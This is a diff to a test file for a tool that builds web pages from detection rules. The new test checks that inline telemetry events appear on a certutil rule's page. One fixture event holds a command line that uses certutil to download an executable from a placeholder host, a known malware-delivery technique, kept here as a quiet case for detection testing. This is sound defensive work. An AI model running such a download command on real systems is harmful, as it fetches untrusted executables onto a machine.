@@ -157,6 +157,26 @@ describe('buildSite', () => {
     expect(page.related).toEqual([expect.objectContaining({ slug: 'certutil-hash', relation: 'related' })]);
   });
 
+  it("uses the events a test declares inline, under the rule's log source", () => {
+    const page = JSON.parse(readFileSync(join(out, 'site/data/rules/certutil-hash.json'), 'utf8')) as SiteRule;
+    const inline = page.telemetry.filter((e) => e.test === 'inline-certutil-urlcache');
+    expect(inline).toEqual([
+      {
+        test: 'inline-certutil-urlcache',
+        expect: 'quiet',
+        logsource: { category: 'process_creation', product: 'windows' },
+        fields: {
+          Image: 'C:\\Windows\\System32\\certutil.exe',
+          CommandLine: 'certutil -urlcache -f http://example.invalid/a a.exe',
+        },
+      },
+    ]);
+    expect(page.tests.map((t) => `${t.id}:${t.expect}:${t.description}`)).toEqual([
+      'atomic-4-certutil-hashfile:fire:',
+      'inline-certutil-urlcache:quiet:certutil downloading a file is not a hash check',
+    ]);
+  });
+
   it('refuses to run without a built app', async () => {
     await expect(buildSite({ rules: [], outDir: join(out, 'x'), appDir: join(out, 'nothing') })).rejects.toThrow(
       /npm run build/,
